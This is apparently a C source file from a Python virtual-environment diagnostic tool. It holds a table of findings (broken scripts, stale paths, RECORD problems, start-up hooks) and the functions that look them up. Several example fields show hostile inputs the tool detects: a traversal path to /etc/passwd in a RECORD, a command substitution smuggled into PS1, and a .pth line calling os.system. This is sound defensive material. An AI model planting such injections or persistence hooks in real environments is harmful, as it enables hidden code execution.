	  "location, venv repair rewrites the entry; otherwise reinstall the package "
	  "('pip install -e PATH').",
	  "0.1.0" },
	{ VENV_DIAG_SCRIPT_NOT_EXECUTABLE, E, STABLE, 1, "script-not-executable",
	  "a console script in bin/ cannot be run: it is not executable",
	  "Reports a console script in bin/ that an installed distribution put there (its "
	  "entry points or its RECORD name it) and that is a regular file without execute "
	  "permission for its owner. The interpreter names are bad-interpreter's.",
	  "Running the command fails with 'Permission denied' (pip3, pytest, black), and "
	  "nothing else says why: the file and its #! line are intact.",
	  "$ chmod 644 env/bin/pip3\n$ env/bin/pip3 --version\nbin/pip3: Permission denied",
	  "venv repair gives the execute permission back: to the owner, and to the group and "
	  "others where they may read the file (as chmod a+X). A file its owner may not read "
	  "is left alone: fix its mode by hand (chmod u+rx).",
	  "0.2.0" },
	{ VENV_DIAG_DIRECT_URL_OLD_LOCATION, W, STABLE, 1, "direct-url-old-location",
	  "an installed distribution's direct_url.json names the old location",
	  "Reports a distribution's direct_url.json (PEP 610) whose file:// URL names a "
	  "path that no longer exists under a place the environment moved from: the "
	  "environment's old directory, or the project holding an in-project .venv (or a "
	  "directory further up) that moved with it, as pth-missing-path follows them. "
	  "Typically the project directory of an editable install ('pip install -e .').",
	  "The package still imports (its .pth is another finding), but 'pip freeze' prints "
	  "'-e' with the old directory, 'venv list' shows it as the editable location, and "
	  "reinstalling from that line fails.",
	  "lib/python3.12/site-packages/proj-1.0.dist-info/direct_url.json:\n"
	  "{\"dir_info\": {\"editable\": true}, \"url\": \"file:///srv/u/old/proj\"}   "
	  "(the project moved to /srv/u/proj)",
	  "When the same path exists under the new location, venv repair rewrites the url to "
	  "it (the rest of the file kept) and updates the file's RECORD row; otherwise "
	  "reinstall the package ('pip install -e PATH').",
	  "0.2.0" },

	{ VENV_DIAG_MISSING_ACTIVATION_SCRIPT, W, STABLE, 1, "missing-activation-script",
	  "an activation script is missing",
	  "Reports a missing bin/activate, and for environments made by CPython's venv a "
	  "missing activate.csh, activate.fish or Activate.ps1. A missing bin/activate is an "
	  "error ('source bin/activate' no longer works); a missing script of another shell "
	  "is a warning. A virtualenv environment made with --activators for other shells "
	  "only (some of its default scripts absent too) lacks bin/activate by choice: an "
	  "info, with no fix.",
	  "'source bin/activate' fails; documentation and tools that assume the script exists "
	  "break.",
	  "bin/python -> python3.12\nbin/python3.12 -> /usr/bin/python3.12\n(no bin/activate)",
	  "venv repair writes the missing scripts.",
	  "0.1.0" },
	{ VENV_DIAG_UNQUOTED_ACTIVATION_TEMPLATE, I, STABLE, 1, "unquoted-activation-template",
	  "an activation script comes from a template affected by CVE-2024-9287",
	  "Reports an activation script generated by a template that pastes the environment "
	  "path in without quoting: CPython before 3.9.21, 3.10.16, 3.11.11, 3.12.8 and 3.13.1, "
	  "and virtualenv before 20.26.6. The path of this environment is harmless, so nothing "
	  "runs today.",
	  "Recreating or copying the environment into a directory whose name contains shell "
	  "syntax would make activation run it.",
	  "bin/activate: VIRTUAL_ENV=\"/srv/u/env\"   (CPython 3.12.1)",
	  "venv repair regenerates the activation scripts with per-shell quoting.",
	  "0.1.0" },
	{ VENV_DIAG_UNKNOWN_ACTIVATION_SCRIPT, I, STABLE, 0, "unknown-activation-script",
	  "check cannot find the environment path in an activation script",
	  "Reports an activation script in which check found no VIRTUAL_ENV assignment it "
	  "understands, so it could not verify where the script points.",
	  "A hand-edited or foreign script may point anywhere; check cannot tell.",
	  "bin/activate: VIRTUAL_ENV=$(compute_path)",
	  "No automatic fix; venv repair can regenerate the script if you remove it.",
	  "0.1.0" },
	{ VENV_DIAG_PROMPT_EXPANSION, W, STABLE, 1, "prompt-expansion",
	  "the shell prompt set by activation contains a command substitution",
	  "Reports an activation script that stores $(...) or backquotes from the prompt name "
	  "literally in PS1. bash (promptvars, on by default) and zsh with prompt_subst "
	  "evaluate PS1 every time they draw the prompt.",
	  "Activation itself is safe, but every prompt runs the command, and the default "
	  "prompt name is the directory name.",
	  "bin/activate: PS1=\"(\"'$(touch /tmp/x)'\") ${PS1:-}\"",
	  "venv repair regenerates the script so that PS1 refers to $VIRTUAL_ENV_PROMPT "
	  "instead of containing it.",
	  "0.1.0" },
	{ VENV_DIAG_RECORD_MISSING, W, STABLE, 0, "record-missing",
	  "an installed distribution has no RECORD",
	  "Reports a .dist-info directory in the active site-packages without a RECORD file.",
	  "RECORD lists the files a distribution owns: without it pip cannot uninstall or "
	  "upgrade it, and its files cannot be checked.",
	  "lib/python3.12/site-packages/demo-1.0.dist-info/METADATA\n(no RECORD)",
	  "No automatic fix: reinstall the distribution with pip.",
	  "0.2.0" },
	{ VENV_DIAG_RECORD_UNPARSEABLE, W, STABLE, 0, "record-unparseable",
	  "a distribution's RECORD cannot be read or lists an unsafe path",
	  "Reports a RECORD that is not valid CSV of three fields, is over its size cap, or "
	  "lists a path that leaves the environment (absolute, or through '..'); such paths "
	  "are never followed. With --verify-hashes, also a RECORD whose hash for a file is "
	  "not sha256=<urlsafe base64 without padding> (hexadecimal, standard base64, "
	  "padding, another algorithm), which check cannot verify.",
	  "pip cannot uninstall the distribution cleanly, and its files cannot be checked.",
	  "demo/__init__.py,sha256=...\n../../../../etc/passwd,,",
	  "No automatic fix: reinstall the distribution with pip.",
	  "0.2.0" },
	{ VENV_DIAG_DIST_FILE_MISSING, W, STABLE, 0, "dist-file-missing",
	  "a file listed in a distribution's RECORD is missing",
	  "Reports every file that a RECORD lists and that does not exist (RECORD itself and "
	  ".pyc files, which Python writes and removes, are not required). A missing module "
	  "(a .py file or an extension module below site-packages) is an error: importing it "
	  "no longer works; any other file (metadata, data, a script) is a warning.",
	  "A half-removed or damaged distribution: imports from it may fail.",
	  "demo-1.0.dist-info/RECORD lists demo/core.py\n(no lib/python3.12/site-packages/demo/core.py)",
	  "No automatic fix: reinstall the distribution with pip.",
	  "0.2.0" },
	{ VENV_DIAG_DIST_FILE_SIZE, W, STABLE, 0, "dist-file-modified",
	  "a file of a distribution differs from its RECORD",
	  "Reports a file whose size differs from the size its RECORD gives, and with "
	  "--verify-hashes (or --strict) a file of the right size whose SHA-256 differs from "
	  "its RECORD's: it was modified, truncated or replaced after installation. A hash "
	  "RECORD gives in another form than sha256=<urlsafe base64> is reported as "
	  "record-unparseable (VNV602) instead.",
	  "Code that runs is not the code that was installed: an audit cannot vouch for it. "
	  "Only the hash catches an edit that keeps the size.",
	  "RECORD: demo/__init__.py,sha256=...,120\nfile: 133 bytes\n"
	  "file: 120 bytes, sha256 differs (--verify-hashes)",
	  "No automatic fix: reinstall the distribution with pip.",
	  "0.2.0" },
	{ VENV_DIAG_DUPLICATE_DIST_INFO, W, STABLE, 0, "duplicate-dist-info",
	  "two metadata directories for one project",
	  "Reports two or more .dist-info or .egg-info directories whose names normalise to "
	  "the same project (PEP 503).",
	  "Python and pip see only one of them (which one depends on directory order); the "
	  "other's files are leftovers of an interrupted upgrade.",
	  "Foo.Bar-1.0.dist-info\nfoo_bar-2.0.dist-info",
	  "No automatic fix: remove the stale directory or reinstall with pip.",
	  "0.2.0" },
	{ VENV_DIAG_DEPENDENCY_MISSING, W, STABLE, 0, "dependency-missing",
	  "a requirement of an installed distribution is not installed",
	  "Reports a Requires-Dist of an installed distribution, with its marker true for the "
	  "environment's interpreter (extras not requested), whose project is not installed. "
	  "The message is the line pip check prints.",
	  "Importing the distribution, or the code path that needs the dependency, fails.",
	  "demo 1.0 requires missing-dep, which is not installed.",
	  "No automatic fix: install the dependency with pip.",
	  "0.2.0" },
	{ VENV_DIAG_DEPENDENCY_CONFLICT, W, STABLE, 0, "dependency-conflict",
	  "an installed dependency has a version its dependent does not admit",
	  "Reports a Requires-Dist whose project is installed in a version the specifier does "
	  "not admit (PEP 440, pre-releases admitted as pip check admits them). The message is "
	  "the line pip check prints.",
	  "The dependent may fail at import or behave wrongly with an API it was not written for.",
	  "demo 1.0 has requirement b>=2.0, but you have b 1.5.",
	  "No automatic fix: install a matching version with pip.",
	  "0.2.0" },
	{ VENV_DIAG_UNOWNED_EXECUTABLE_PTH, W, STABLE, 0, "unowned-executable-pth",
	  "a .pth file that runs code belongs to no distribution",
	  "Reports a .pth file in the active site-packages with a line that Python executes at "
	  "every start-up ('import ...') and that no distribution's RECORD lists.",
	  "Code run by every interpreter start, from a file no package installed, is how "
	  "malicious packages persist after they are uninstalled.",
	  "lib/python3.12/site-packages/zzz.pth: import os; os.system('...')",
	  "No automatic fix: find out who wrote it, then remove it.",
	  "0.2.0" },
	{ VENV_DIAG_ENTRY_POINT_MODULE_MISSING, E, STABLE, 1, "entry-point-module-missing",
	  "a console script names a module that does not exist",
	  "Reports a console_scripts or gui_scripts entry point of an installed distribution "
	  "whose module is neither a module file, a package nor an extension module in "
	  "site-packages; and a seed distribution without console scripts (setuptools) whose "
	  ".dist-info remains but whose package is gone.",
	  "The script in bin/ fails with ModuleNotFoundError every time it runs.",
	  "[console_scripts]\ndemo = demo.cli:main\n(no demo/cli.py)",
	  "For pip and setuptools, which venv create installs, venv repair reinstalls the same "
	  "version as venv create installs it, offline and without running Python: from the "
	  "wheel cache (~/.cache/venv/wheels-v1), else from the base interpreter's ensurepip "
	  "wheels or another local wheel of that version, filling the cache on the way. When no "
	  "such wheel is there, the remaining problem names the cache and the wheels it looked "
	  "at. Any other distribution: reinstall it with pip "
	  "('python -m pip install --force-reinstall NAME==VERSION').",
	  "0.2.0" },
	{ VENV_DIAG_UNOWNED_FILES, I, STABLE, 0, "unowned-files",
	  "files in site-packages belong to no installed distribution",
	  "Reports, once per environment, the files under the active site-packages that no "
	  "distribution's RECORD lists, with their number and the first few names. Bytecode "
	  "(__pycache__, .pyc), the metadata directories themselves, the .egg-info "
	  "distributions of old setuptools with their top-level modules, and the start-up "
	  "hook virtualenv and uv write (_virtualenv.py, _virtualenv.pth) are not counted.",
	  "An audit of an environment covers what its RECORDs list: files put there by hand, "
	  "by a build step or by a package that was removed badly run with everything else "
	  "and no tool knows where they came from.",
	  "lib/python3.12/site-packages/local_settings.py\n"
	  "lib/python3.12/site-packages/vendored/   (12 files)",
	  "No automatic fix: find out who put them there; remove them or install them as a "
	  "package. venv repair --upgrade moves them with the environment.",
	  "0.2.0" },
	{ VENV_DIAG_CUSTOMIZE_MODULE, W, STABLE, 0, "customize-module",
	  "a sitecustomize or usercustomize module runs at every start-up",
	  "Reports a sitecustomize or usercustomize module (a .py file, a package or an "
	  "extension module) in the active site-packages. site.py imports sitecustomize at "
	  "every start of the environment's interpreter, and usercustomize when the user site "
	  "is enabled. A warning when no distribution's RECORD lists it; an info when one "
	  "does (the distribution is named).",
	  "Code run by every interpreter start, from a file no package installed, is how "
	  "malicious code persists; one a package installed is still code that runs before "
	  "any of yours.",
	  "lib/python3.12/site-packages/sitecustomize.py   (no RECORD lists it)",
	  "No automatic fix: find out who wrote it, then remove it (or install it as part of "
	  "a package).",
	  "0.2.0" },
	{ VENV_DIAG_SHARED_HARD_LINKS, I, STABLE, 0, "shared-hard-links",
	  "files of the environment are hard links shared with other places",
	  "Reports, once per environment, the files listed in RECORDs that have more than one "
	  "hard link: they are shared with another environment or a cache (uv, venv create "
	  "--link-mode hardlink, pip's or virtualenv's copies made with links).",
	  "An edit made in place here (an appended line, most editors) changes the same file "
	  "in every other environment and in the cache it came from; pip itself replaces "
	  "files and is not affected.",
	  "$ stat -c %h lib/python3.12/site-packages/pip/__init__.py\n3",
	  "No automatic fix: recreate the environment with copies (venv create --link-mode "
	  "copy) if it must not share files.",
	  "0.2.0" },
};

const size_t venv_diags_count = VENV_ARRAY_SIZE(venv_diags);

const struct venv_diag *venv_diag_get(int code)
{
	size_t lo = 0, hi = venv_diags_count;

	while (lo < hi) {
		size_t mid = lo + (hi - lo) / 2;

		if (venv_diags[mid].code == code)
			return &venv_diags[mid];
		if (venv_diags[mid].code < code)
			lo = mid + 1;
		else
			hi = mid;
	}
	return NULL;
}

void venv_diag_code_str(char *out, size_t size, int code)
{
	snprintf(out, size, "VNV%03d", code);
}

const struct venv_diag *venv_diag_find(const char *name)
{
	size_t i;

	if (!strncasecmp(name, "VNV", 3) && strlen(name) == 6) {
		char *end;
		long n;

		errno = 0;
		n = strtol(name + 3, &end, 10);
		if (!*end && n >= 0 && n < 1000 && name[3] >= '0' && name[3] <= '9')
			return venv_diag_get((int)n);
		return NULL;
	}
	for (i = 0; i < venv_diags_count; i++)
		if (!strcasecmp(venv_diags[i].slug, name))
			return &venv_diags[i];
	return NULL;
}

int venv_diag_match(const struct venv_diag *d, const char *selector)
{
	char code[16];
	size_t n = strlen(selector);

	if (!strcasecmp(selector, "ALL"))
		return 1;
	if (!strcasecmp(selector, d->slug))
		return 7; /* as specific as the full code */
	venv_diag_code_str(code, sizeof(code), d->code);
	/* "VNV", "VNV4", "VNV40", "VNV401": longer is more specific. */
	if (n >= 3 && n <= strlen(code) && !strncasecmp(code, selector, n))
		return 1 + (int)n;
	return 0;
}

int venv_diag_selector_valid(const char *selector)
{
	size_t i;

	for (i = 0; i < venv_diags_count; i++)
		if (venv_diag_match(&venv_diags[i], selector))
			return 1;
	return 0;
}

const char *venv_severity_name(enum venv_severity severity)
{
	switch (severity) {
	case VENV_SEVERITY_ERROR: return "error";
	case VENV_SEVERITY_WARNING: return "warning";
	case VENV_SEVERITY_INFO: return "info";
	}
	return "unknown";
}

int venv_severity_parse(enum venv_severity *out, const char *name)
{
	if (!strcasecmp(name, "error"))
		*out = VENV_SEVERITY_ERROR;
	else if (!strcasecmp(name, "warning"))
		*out = VENV_SEVERITY_WARNING;
	else if (!strcasecmp(name, "info"))
		*out = VENV_SEVERITY_INFO;
	else
		return venv_error_set(VENV_EINVAL, "unknown severity '%s' "
				      "(expected error, warning or info)", name);
	return 0;
}
